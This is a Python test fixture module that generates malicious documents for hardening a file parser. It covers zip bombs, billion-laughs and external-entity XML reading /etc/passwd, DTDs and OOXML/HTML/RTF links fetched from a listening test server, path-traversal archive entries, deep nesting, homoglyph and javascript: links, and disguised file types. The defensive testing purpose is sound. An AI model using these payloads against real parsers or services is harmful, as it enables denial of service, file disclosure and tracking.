"""Files made to do harm, each small until it is opened."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable
from functools import partial

from tests.hostile import pdfs
from tests.office_files import docx, epub, odt, paragraph, zipped

MEBIBYTE = 2**20
SPY = "http://127.0.0.1:{port}/"
"""Where the files phone home to; a test listens there."""

LAUGHS = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12))
BILLION_LAUGHS = f'<!DOCTYPE x [<!ENTITY e0 "ha">{LAUGHS}]>'
EXTERNAL = '<!DOCTYPE x [<!ENTITY e11 SYSTEM "file:///etc/passwd">]>'
SPYING_DTD = f'<!DOCTYPE x PUBLIC "-//X" "{SPY}x.dtd" [<!ENTITY % p SYSTEM "{SPY}p"> %p;]>'
_BODY = paragraph("The mayor said no.")


def _repeated(word: bytes, size: int) -> bytes:
    return word * (size // len(word) + 1)


def flat_bomb() -> bytes:
    """A Word file of some 100 KB whose text unpacks to 100 MB."""
    return zipped({"[Content_Types].xml": "<x/>", "word/document.xml": _repeated(b"<w:p>said</w:p>", 100 * MEBIBYTE)})


def honest_bomb() -> bytes:
    """Under every limit of ratio, over that of size: 60 MB in an entry that packs badly enough."""
    block = bytes((n * 7919 + n // 251) % 256 for n in range(60_000))
    return zipped({"word/document.xml": b"<x>" + _repeated(block.hex().encode(), 60 * MEBIBYTE)})


def nested_bomb() -> bytes:
    """Archives inside archives."""
    inner = zipped({"0.xml": bytes(MEBIBYTE)})
    for _ in range(6):
        inner = zipped({f"{n}.zip": inner for n in range(8)})
    return zipped({"word/document.xml": "<x/>", "word/media/a.zip": inner})


def many_entries() -> bytes:
    """More entries than a document has parts."""
    return zipped({"word/document.xml": _BODY, **{f"word/{n}": b"" for n in range(12_000)}})


def lying_directory() -> bytes:
    """A directory that calls itself four gigabytes long."""
    data = bytearray(docx(_BODY))
    struct.pack_into("<L", data, data.rfind(b"PK\x05\x06") + 12, 0xFFFFFFF0)
    return bytes(data)


def overlapping_entries() -> bytes:
    """Many names for one piece of packed data, after David Fifield's bomb of 2019."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", "x" * MEBIBYTE)
        first = archive.infolist()[0]
        for n in range(1000):
            twin = zipfile.ZipInfo(f"word/x{n:04}.xml")
            twin.compress_type, twin.CRC = first.compress_type, first.CRC
            twin.compress_size, twin.file_size, twin.header_offset = first.compress_size, first.file_size, 0
            archive.filelist.append(twin)
    return buffer.getvalue()


def deep_tables(depth: int = 4000) -> str:
    """Tables in tables in tables, in WordprocessingML."""
    return "<w:tbl><w:tr><w:tc>" * depth + _BODY + "</w:tc></w:tr></w:tbl>" * depth


def deep_html(depth: int = 200_000) -> str:
    """Elements inside one another."""
    return "<div>" * depth + "<p>The mayor said no.</p>"


def spying_docx() -> bytes:
    """A Word file whose template, pictures, frames and links lie on somebody's server."""
    kinds = (
        "attachedTemplate",
        "image",
        "frame",
        "hyperlink",
        "subDocument",
        "oleObject",
        "aFChunk",
        "header",
        "styles",
    )
    relations = "".join(
        f'<Relationship Id="s{n}" Type="x/{kind}" Target="{SPY}{kind}" TargetMode="External"/>'
        for n, kind in enumerate(kinds)
    )
    picture = f'<w:p><w:r><w:pict><v:imagedata xmlns:v="v" src="{SPY}img" r:id="s1"/></w:pict></w:r></w:p>'
    field = f'<w:p><w:r><w:instrText>INCLUDETEXT "{SPY}t"</w:instrText></w:r></w:p>'
    return docx(_BODY + picture + field + '<w:altChunk r:id="s6"/>', relations=relations)


def spying_html() -> str:
    """A page that loads from somebody's server in every way that pages can."""
    ways = (
        f'<base href="{SPY}"><link rel="stylesheet" href="{SPY}a.css"><link rel="prefetch" href="{SPY}b">',
        f'<meta http-equiv="refresh" content="0;url={SPY}c"><script src="{SPY}d.js"></script>',
        f"<style>@import url({SPY}e.css); body {{ background: url({SPY}f.png) }}</style>",
        f'<img src="{SPY}g.png" srcset="{SPY}h.png 2x" alt="A picture of a mayor"><iframe src="{SPY}i"></iframe>',
        f'<video src="{SPY}j" poster="{SPY}k"></video><object data="{SPY}l"></object><embed src="{SPY}m">',
        f'<svg><image href="{SPY}n"/></svg><form action="{SPY}o"><input type="image" src="{SPY}p"></form>',
        f'<body background="{SPY}q"><p>The mayor said no, and she said it twice to everybody who asked.</p>',
    )
    return f"<!DOCTYPE html SYSTEM '{SPY}r.dtd'><html>{''.join(ways)}</body></html>"


def crowded_mail() -> bytes:
    """A message of ten thousand parts."""
    part = b"--b\r\nContent-Type: text/plain\r\n\r\nThe mayor said no.\r\n"
    head = b"From: a@b.example\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
    return head + part * 10_000 + b"--b--\r\n"


def nested_mail() -> bytes:
    """Messages inside messages."""
    head = b"From: a@b.example\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: message/rfc822\r\n\r\n"
    return head * 3000 + b"From: a@b.example\r\nSubject: y\r\nMIME-Version: 1.0\r\n\r\nThe mayor said no.\r\n"


def _cycle_of_styles() -> bytes:
    styles = "".join(f'<w:style w:styleId="s{n}"><w:basedOn w:val="s{(n + 1) % 50}"/></w:style>' for n in range(50))
    return docx(paragraph("The mayor said no.", '<w:pStyle w:val="s0"/>'), styles=styles)


def _words(size: int) -> bytes:
    return _repeated(b"said ", size)


BIG = 4 * MEBIBYTE
"""Of what only has to be long: no limit depends on its length, time does."""

_SPYING_MARKDOWN = f"![said]({SPY}a.png) <img src='{SPY}b.png'> said"

FILES: dict[str, tuple[str, Callable[[], bytes]]] = {
    "flat bomb": ("a.docx", flat_bomb),
    "large bomb": ("a.docx", honest_bomb),
    "nested bomb": ("a.docx", nested_bomb),
    "many entries": ("a.docx", many_entries),
    "lying directory": ("a.docx", lying_directory),
    "overlapping entries": ("a.docx", overlapping_entries),
    "entry that leads outside": ("a.epub", lambda: epub({"a": "<p>x</p>"}, more={"../../../evil.txt": "evil"})),
    "billion laughs in Word": ("a.docx", lambda: docx(paragraph("&e11;"), head=BILLION_LAUGHS)),
    "billion laughs in OpenDocument": ("a.odt", lambda: odt("<text:p>&e11;</text:p>", head=BILLION_LAUGHS)),
    "billion laughs in HTML": ("a.html", (BILLION_LAUGHS + "<html><p>&e11; said</p></html>").encode),
    "billion laughs in a flat file": (
        "a.fodt",
        (BILLION_LAUGHS + '<office:document xmlns:office="o">&e11;</office:document>').encode,
    ),
    "external entity in Word": ("a.docx", lambda: docx(paragraph("&e11;"), head=EXTERNAL)),
    "external entity in OpenDocument": ("a.odt", lambda: odt("<text:p>&e11;</text:p>", head=EXTERNAL)),
    "DTD on a server in Word": ("a.docx", lambda: docx(_BODY, head=SPYING_DTD)),
    "DTD on a server in OpenDocument": ("a.odt", lambda: odt("<text:p>x</text:p>", head=SPYING_DTD)),
    "DTD on a server in a book": ("a.epub", lambda: epub({"a": "<p>x</p>"}, head=SPYING_DTD)),
    "deep tables": ("a.docx", lambda: docx(deep_tables())),
    "deep lists": ("a.odt", lambda: odt("<text:list><text:list-item>" * 4000 + "x")),
    "deep chapters": ("a.epub", lambda: epub({"a": "<div>" * 4000 + "x"})),
    "deep groups": ("a.rtf", lambda: b"{\\rtf1 " + b"{\\b " * 400_000 + b"said"),
    "deep HTML": ("a.html", lambda: deep_html().encode()),
    "deep Markdown": ("a.md", lambda: b">" * 5000 + b" said\n" + b"- " * 5000 + b"x\n" + b"[" * 5000 + b"*" * 5000),
    "circle of styles": ("a.docx", _cycle_of_styles),
    "one long line of text": ("a.txt", lambda: _words(BIG)),
    "one long word": ("a.txt", lambda: b"a" * BIG),
    "one long line of Markdown": ("a.md", lambda: _words(BIG // 8)),
    "one long line of HTML": ("a.html", lambda: b"<html><p>" + _words(BIG // 16)),
    "one long line of rich text": ("a.rtf", lambda: b"{\\rtf1 " + _words(BIG) + b"}"),
    "many controls in rich text": ("a.rtf", lambda: b"{\\rtf1 " + b"\\par a" * 20_000 + b"\\par\\b a" * 500 + b"}"),
    "picture without an end": ("a.rtf", lambda: b"{\\rtf1 {\\pict\\bin999999999 abc} said}"),
    "nothing but NULs": ("a.txt", lambda: bytes(MEBIBYTE)),
    "NULs in the text": ("a.txt", lambda: b"The mayor\0 said\0 no. " * 9000),
    "lone surrogates": ("a.txt", lambda: "The mayor said \ud800no\udfff.".encode("utf-8", "surrogatepass")),
    "lone surrogates in UTF-16": ("b.txt", lambda: b"\xff\xfe" + "said \udfff no".encode("utf-16-le", "surrogatepass")),
    "text from right to left": ("a.txt", "The mayor said \u202eon dias\u202c and \u2066left\u2069.".encode),
    "homoglyph link": ("a.md", "[apple.com](https://аpple.com/) said the mayor.".encode),
    "link that is another": ("a.html", lambda: b'<html><a href="javascript:x">http://a.example</a> said x</html>'),
    "link to a file": ("a.html", lambda: b'<html><p><a href="file:///etc/passwd">the mayor</a> said no</p></html>'),
    "Word file with a server": ("a.docx", spying_docx),
    "page with a server": ("a.html", lambda: spying_html().encode()),
    "Markdown with a server": ("a.md", _SPYING_MARKDOWN.encode),
    "rich text with a server": (
        "a.rtf",
        lambda: b'{\\rtf1{\\*\\template ' + SPY.encode() + b'}{\\field{\\*\\fldinst INCLUDEPICTURE "' + SPY.encode()
        + b'"}{\\fldrslt said}}{\\object\\objautlink\\objupdate{\\*\\objdata 0105}}}',
    ),
    "mail of many parts": ("a.eml", crowded_mail),
    "mail in mail": ("a.eml", nested_mail),
    "page named Word": ("a.docx", lambda: spying_html().encode()),
    "Word named text": ("a.txt", lambda: docx(_BODY)),
    "Word named PDF": ("a.pdf", lambda: docx(_BODY)),
    "PDF named Word": ("a.docx", lambda: b"%PDF-1.7\n" + b"1 0 obj<</Type/Catalog/Pages 1 0 R>>endobj\n" * 50),
    "program named text": ("a.txt", lambda: b"\x7fELF" + bytes(range(256)) * 50),
    "old Word": ("a.docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(5000)),
    "many paragraphs of a page": ("a.html", lambda: b"<html><body>" + b"<p>The mayor said no.</p>" * 30_000),
    "many attributes": ("a.html", lambda: b"<html><p " + b"".join(b'a%d="x" ' % n for n in range(20_000)) + b">said"),
    "lists in lists of a page": ("a.html", lambda: b"<html><ul><li>said" + b"<ul><li>said" * 5_000),
    "quotations of a page": ("a.html", lambda: b"<html>" + b"<blockquote><p>said the mayor</p></blockquote>" * 20_000),
    **{f"PDF: {what}": ("a.pdf", partial(bytes, data)) for what, data in pdfs.HOSTILE.items()},
}  # fmt: skip
"""Each by what it is: its name on the disk, and what makes its bytes. `SPY` in them is still to be filled in."""
